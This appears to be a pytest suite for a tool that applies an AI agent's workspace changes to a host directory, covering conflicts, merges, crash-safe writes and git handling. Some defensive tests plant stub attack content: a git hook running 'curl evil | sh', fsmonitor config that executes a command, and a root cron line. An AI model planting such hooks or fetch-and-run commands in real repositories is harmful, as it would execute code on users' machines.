"""Carrying a workspace's changes back into its base (``agentfs.overlay.apply``): the conflict
check that writes nothing, ``ours`` and ``theirs``, what is never applied, modes, symlinks and
times, the change list empty afterwards, and a run killed with SIGKILL that leaves every host
file old or new and is finished by the next."""

from __future__ import annotations

import hashlib
import importlib
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

import agentfs
from agentfs.mount.exec import fuse_available
from agentfs.overlay import Conflict, apply, changes
from tests.clirun import run
from tests.trees import host_files


@pytest.fixture
def host(tmp_path: Path) -> Path:
    root = tmp_path / "host"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("app\n")
    (root / "src" / "old.py").write_text("old\n")
    (root / "README.md").write_text("readme\n")
    (root / "run.sh").write_text("#!/bin/sh\n")
    (root / "run.sh").chmod(0o755)
    os.symlink("src/app.py", root / "link")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return root


def change_everything(ws: agentfs.Workspace) -> None:
    ws.write("/src/app.py", "app v2\n")
    ws.write("/src/new/module.py", "new\n", parents=True)
    ws.remove("/README.md")
    ws.rename("/src/old.py", "/src/renamed.py")
    ws.chmod("/run.sh", 0o700)
    ws.remove("/link")
    ws.symlink("README.md", "/link")


def test_apply_writes_every_change_and_the_list_is_empty_after(
    ws: agentfs.Workspace, host: Path
) -> None:
    change_everything(ws)
    done = apply(ws)
    assert done.conflicts == [] and not done.dry_run
    assert sorted(done.written) == [
        "/link",
        "/run.sh",
        "/src/app.py",
        "/src/new/module.py",
        "/src/renamed.py",
    ]
    assert sorted(done.deleted) == ["/README.md", "/src/old.py"]
    assert host_files(host) == {
        ".git/HEAD": b"ref: refs/heads/main\n",
        "link": "README.md",
        "run.sh": b"#!/bin/sh\n",
        "src/app.py": b"app v2\n",
        "src/new/module.py": b"new\n",
        "src/renamed.py": b"old\n",
    }
    assert (host / "run.sh").stat().st_mode & 0o777 == 0o700
    assert (host / "src" / "app.py").stat().st_mtime_ns == ws.stat("/src/app.py").st_mtime_ns
    assert changes(ws) == []
    assert not list(host.rglob(".agentfs-apply-*"))  # no temporary file left
    assert ws.conn.execute("SELECT count(*) FROM ws_apply").get == 0


def test_a_dry_run_writes_nothing(ws: agentfs.Workspace, host: Path) -> None:
    change_everything(ws)
    before = host_files(host)
    done = apply(ws, dry_run=True)
    assert done.dry_run and "/src/app.py" in done.written and "/README.md" in done.deleted
    assert host_files(host) == before
    assert len(changes(ws)) == 6


def test_a_host_change_is_a_conflict_and_nothing_is_written(
    ws: agentfs.Workspace, host: Path
) -> None:
    change_everything(ws)
    (host / "src" / "app.py").write_text("the user's edit\n")
    (host / "src" / "new").mkdir()
    (host / "src" / "new" / "module.py").write_text("the user's new file\n")
    (host / "src" / "old.py").unlink()
    before = host_files(host)
    done = apply(ws)
    assert done.conflicts == [
        Conflict("/src/app.py", "changed on the host since the workspace read it"),
        Conflict(
            "/src/new/module.py", "created on the host since the workspace read its directory"
        ),
    ]
    assert host_files(host) == before  # not one byte written
    assert run("apply", str(ws.path)).exit_code == 1


def test_ours_and_theirs_resolve_a_conflict(ws: agentfs.Workspace, host: Path) -> None:
    ws.write("/src/app.py", "ours\n")
    ws.write("/README.md", "ours too\n")
    (host / "src" / "app.py").write_text("theirs\n")
    (host / "README.md").write_text("theirs too\n")
    done = apply(ws, ours=["/src/app.py"], theirs=["/README.md"])
    assert done.conflicts == [] and done.taken == ["/README.md"]
    assert (host / "src" / "app.py").read_text() == "ours\n"
    assert (host / "README.md").read_text() == "theirs too\n"
    assert ws.read("/README.md") == b"theirs too\n"  # the host's side came in
    assert changes(ws) == []
    seen = ws.conn.execute("SELECT hash FROM ws_origin WHERE path = 'README.md'").get
    assert seen == hashlib.sha256(b"theirs too\n").digest()  # what was seen: the host's side


def test_only_the_paths_asked_for(ws: agentfs.Workspace, host: Path) -> None:
    change_everything(ws)
    done = apply(ws, ["/src"])
    assert sorted(done.written + done.deleted) == [
        "/src/app.py",
        "/src/new/module.py",
        "/src/old.py",
        "/src/renamed.py",
    ]
    assert (host / "README.md").exists()
    assert [c.path for c in changes(ws)] == ["/README.md", "/link", "/run.sh"]


def test_git_hooks_config_and_the_workspaces_own_directory_are_never_applied(
    ws: agentfs.Workspace, host: Path
) -> None:
    ws.write("/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
    ws.write("/.git/config", "[core]\n\thooksPath = /tmp\n")
    ws.write("/.git/HEAD", "ref: refs/heads/agent\n")
    ws.write("/.agentfs/planted", "x\n", parents=True)
    done = apply(ws, include_git=True)
    assert sorted(p for p, _ in done.skipped) == [
        "/.agentfs/planted",
        "/.git/config",
        "/.git/hooks/pre-commit",
    ]
    assert done.written == ["/.git/HEAD"]  # the rest of .git only when asked
    assert not (host / ".git" / "hooks" / "pre-commit").exists()
    assert not (host / ".git" / "config").exists() and not (host / ".agentfs").exists()
    ws.write("/.git/HEAD", "ref: refs/heads/other\n")
    assert apply(ws).written == []  # without include_git: left out
    assert (host / ".git" / "HEAD").read_text() == "ref: refs/heads/agent\n"


def test_the_cli_applies_and_reports(ws: agentfs.Workspace, host: Path) -> None:
    ws.write("/src/app.py", "cli\n")
    ws.close()
    db = str(ws.path)
    dry = run("apply", db, "--dry-run")
    assert dry.exit_code == 0 and dry.output == "would write   /src/app.py\n"
    done = run("apply", db)
    assert done.exit_code == 0 and done.output == "write   /src/app.py\n"
    assert (host / "src" / "app.py").read_text() == "cli\n"
    assert run("apply", db).output == "no changes to apply\n"


# --- a run killed part-way ----------------------------------------------------------------------

_APPLY = """
import os, sys
sys.path[:0] = sys.argv[2:]
import agentfs
from agentfs.overlay import apply
replace = os.replace
def replaced(*args, **kwargs):  # one line a file the run wrote whole
    replace(*args, **kwargs)
    print("wrote", flush=True)
os.replace = replaced
with agentfs.open(sys.argv[1]) as ws:
    apply(ws)
"""


def test_a_killed_apply_leaves_old_or_new_files_and_a_rerun_finishes(tmp_path: Path) -> None:
    host = tmp_path / "host"
    host.mkdir()
    for i in range(300):
        (host / f"f{i:03d}.txt").write_text(f"old {i}\n" * 200)
    old = host_files(host)
    db = tmp_path / "ws.db"
    with agentfs.open(db, base=host) as ws:
        for i in range(300):
            ws.write(f"/f{i:03d}.txt", f"new {i}\n" * 300)
        new = {name: ws.read("/" + name) for name in old}
    root = str(Path(__file__).parent.parent.parent)
    proc = subprocess.Popen(
        [sys.executable, "-c", _APPLY, str(db), root], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout is not None
    for _ in range(150):  # killed once half the files are written: in the middle of the run
        assert proc.stdout.readline() == "wrote\n"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    now = {k: v for k, v in host_files(host).items() if not k.startswith(".agentfs-apply-")}
    assert set(now) == set(old)  # every file is there: a rename replaced it whole
    assert all(now[name] in (old[name], new[name]) for name in old)  # never partial
    assert 150 <= sum(now[name] == new[name] for name in old) < len(old)
    with agentfs.open(db) as ws:
        done = apply(ws)
        assert done.conflicts == []  # what the killed runs wrote is recognised, not a conflict
        assert changes(ws) == []
    assert host_files(host) == new  # and the temporary files a kill left are gone


def test_binary_files_and_a_rename_over_a_deleted_file(ws: agentfs.Workspace, host: Path) -> None:
    blob = bytes(range(256)) * 40
    (host / "data.bin").write_bytes(blob)
    ws.listdir("/")  # the root comes in again with data.bin (written after the fixture)
    ws.write("/data.bin", blob[::-1])  # binary, changed
    ws.remove("/README.md")
    ws.rename("/src/app.py", "/README.md")  # a rename onto a name the workspace deleted
    # path by path, as git sees it: README.md holds other bytes, src/app.py is gone
    assert [(c.kind, c.path) for c in changes(ws)] == [
        ("modified", "/README.md"),
        ("modified", "/data.bin"),
        ("deleted", "/src/app.py"),
    ]
    done = apply(ws)
    assert done.conflicts == []
    assert (host / "data.bin").read_bytes() == blob[::-1]
    assert (host / "README.md").read_text() == "app\n"
    assert not (host / "src" / "app.py").exists()
    assert changes(ws) == []


def test_merge_takes_both_sides_of_a_text_file(ws: agentfs.Workspace, host: Path) -> None:
    lines = [f"line {i}\n" for i in range(10)]
    (host / "notes.txt").write_text("".join(lines))
    ws.listdir("/")
    ours = lines.copy()
    ours[1] = "line 1, the agent's\n"
    ws.write("/notes.txt", "".join(ours))
    theirs = lines.copy()
    theirs[8] = "line 8, the user's\n"
    (host / "notes.txt").write_text("".join(theirs))
    assert [c.path for c in apply(ws).conflicts] == ["/notes.txt"]  # without merge: stopped
    done = apply(ws, merge=True)
    assert (done.conflicts, done.merged, done.written) == ([], ["/notes.txt"], ["/notes.txt"])
    both = lines.copy()
    both[1], both[8] = ours[1], theirs[8]
    assert (host / "notes.txt").read_text() == "".join(both)
    assert ws.read("/notes.txt") == "".join(both).encode()  # the workspace holds it too
    assert changes(ws) == []


def test_merge_refuses_lines_changed_on_both_sides(ws: agentfs.Workspace, host: Path) -> None:
    ws.write("/src/app.py", "app, the agent's\n")
    (host / "src" / "app.py").write_text("app, the user's\n")
    done = apply(ws, merge=True)
    assert [c.reason for c in done.conflicts] == [
        "changed on the host since the workspace read it; the same lines changed on both"
        " sides (or not text)"
    ]
    assert (host / "src" / "app.py").read_text() == "app, the user's\n"
    assert ws.read("/src/app.py") == b"app, the agent's\n"


def test_git_objects_go_before_the_refs_that_name_them() -> None:
    from agentfs.overlay.apply import _git_order, _Step

    written = [
        "/.git/refs/heads/main",
        "/src/a.py",
        "/.git/objects/ab/cdef",
        "/.git/objects/pack/pack-1.idx",
        "/.git/objects/pack/pack-1.pack",
        "/.git/HEAD",
    ]
    steps = [_Step(p, 0o100644, b"") for p in written] + [_Step("/.git/objects/cd/0123")]
    order = sorted(steps, key=_git_order)
    assert [s.path for s in order] == [
        "/.git/objects/pack/pack-1.pack",
        "/.git/objects/ab/cdef",
        "/.git/objects/pack/pack-1.idx",
        "/src/a.py",
        "/.git/refs/heads/main",
        "/.git/HEAD",
        "/.git/objects/cd/0123",  # a loose object gc packed goes once the refs are written
    ]


def test_what_git_runs_is_never_applied_in_any_repository(
    ws: agentfs.Workspace, host: Path
) -> None:
    planted = [
        "/.git/modules/sub/hooks/post-checkout",
        "/.git/modules/sub/config",
        "/.git/worktrees/wt/config.worktree",
        "/.git/index.lock",
        "/vendor/lib/.git/hooks/pre-commit",
        "/vendor/lib/.git/config",
        "/sub/.git",
    ]
    for path in planted:
        ws.write(path, "[core]\n\tfsmonitor = touch /tmp/owned\n", parents=True)
    ws.write("/.git/refs/heads/config", "0" * 40 + "\n", parents=True)  # a branch named config
    done = apply(ws, include_git=True)
    assert sorted(p for p, _ in done.skipped) == sorted(planted)
    assert done.written == ["/.git/refs/heads/config"]
    assert not (host / "vendor").exists() and not (host / "sub").exists()
    assert not (host / ".git" / "modules").exists() and not (host / ".git" / "index.lock").exists()


@pytest.mark.skipif(fuse_available() is not None, reason=f"no FUSE here: {fuse_available()}")
def test_include_git_carries_a_commit_and_a_gc_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A commit made in the mount, then packed by ``git gc`` (its loose objects deleted), is
    carried into the host's repository, objects first and deletions last; the host's git then
    finds every object and the new commit."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git = ["git", "-c", "user.email=a@example.org", "-c", "user.name=a"]
    (repo / "app.py").write_text("v = 1\n")
    subprocess.run([*git, "init", "-q", "-b", "main"], cwd=repo, check=True)
    subprocess.run([*git, "add", "."], cwd=repo, check=True)
    subprocess.run([*git, "commit", "-qm", "one"], cwd=repo, check=True)
    with agentfs.open(tmp_path / "ws.db", base=repo) as ws:
        script = (
            "echo 'v = 2' > app.py && git -c user.email=b@example.org -c user.name=b"
            " commit -qam two && git gc -q --prune=now"
        )
        done = ws.run(["sh", "-c", script], mode="mount", timeout=120)
        assert done.exit_code == 0, done.stderr
        applying = importlib.import_module(
            "agentfs.overlay.apply"
        )  # the package's apply is the function
        order: list[str] = []
        write = applying._write
        monkeypatch.setattr(
            applying,
            "_write",
            lambda ws, root, step: (order.append(step.path), write(ws, root, step)),
        )
        result = apply(ws, include_git=True)
    assert result.conflicts == [] and "/app.py" in result.written

    def kind(path: str) -> str:
        if path in result.deleted:
            return "delete"
        if path.startswith("/.git/objects/"):
            return "object"
        if path.startswith("/.git/refs/") or path in (
            "/.git/HEAD",
            "/.git/index",
            "/.git/packed-refs",
        ):
            return "ref"
        return "other"

    kinds = [kind(path) for path in order if path.startswith("/.git/")]
    assert kinds == sorted(kinds, key=["object", "other", "ref", "delete"].index)
    assert "delete" in kinds  # gc removed loose objects, after the refs moved
    check = subprocess.run(["git", "fsck", "--full"], cwd=repo, capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    log = subprocess.run(["git", "log", "--format=%s"], cwd=repo, capture_output=True, text=True)
    assert log.stdout.split() == ["two", "one"]
    assert (
        subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True).stdout
        == b""
    )


def test_the_cli_merges(ws: agentfs.Workspace, host: Path) -> None:
    (host / "notes.txt").write_text("".join(f"{i}\n" for i in range(10)))
    ws.write("/notes.txt", "".join(f"{i}\n" for i in range(10)).replace("1\n", "one\n"))
    (host / "notes.txt").write_text("".join(f"{i}\n" for i in range(10)).replace("8\n", "eight\n"))
    ws.close()
    assert run("apply", str(ws.path)).exit_code == 1
    merged = run("apply", str(ws.path), "--merge")
    assert merged.exit_code == 0 and merged.output == "write   /notes.txt\nmerged  /notes.txt\n"
    assert (host / "notes.txt").read_text().splitlines()[1:9:7] == ["one", "eight"]


def test_apply_never_writes_through_a_symlink_of_the_host(
    ws: agentfs.Workspace, host: Path, tmp_path: Path
) -> None:
    """An agent that replaces a symlink of the base by a directory of files (here keeping the
    symlink under another name, so the new files sort before its deletion) gets them written
    into the base, never through the symlink; a host directory swapped for a symlink meanwhile
    is a conflict, and nothing is written."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (host / "shared").symlink_to(outside)
    ws.rename("/shared", "/shared2")
    ws.write("/shared/cron.d/job", "* * * * * root evil\n", parents=True)
    done = apply(ws)
    assert done.conflicts == []
    assert list(outside.iterdir()) == []
    assert (host / "shared" / "cron.d" / "job").read_text() == "* * * * * root evil\n"
    assert not (host / "shared").is_symlink() and (host / "shared2").is_symlink()
    ws.write("/src/new.py", "new\n")
    (host / "src").rename(tmp_path / "src-moved")
    (host / "src").symlink_to(outside)  # the user's doing, after the workspace listed src
    done = apply(ws)
    assert [c.path for c in done.conflicts] == ["/src/new.py"]
    assert "symlink" in done.conflicts[0].reason and list(outside.iterdir()) == []
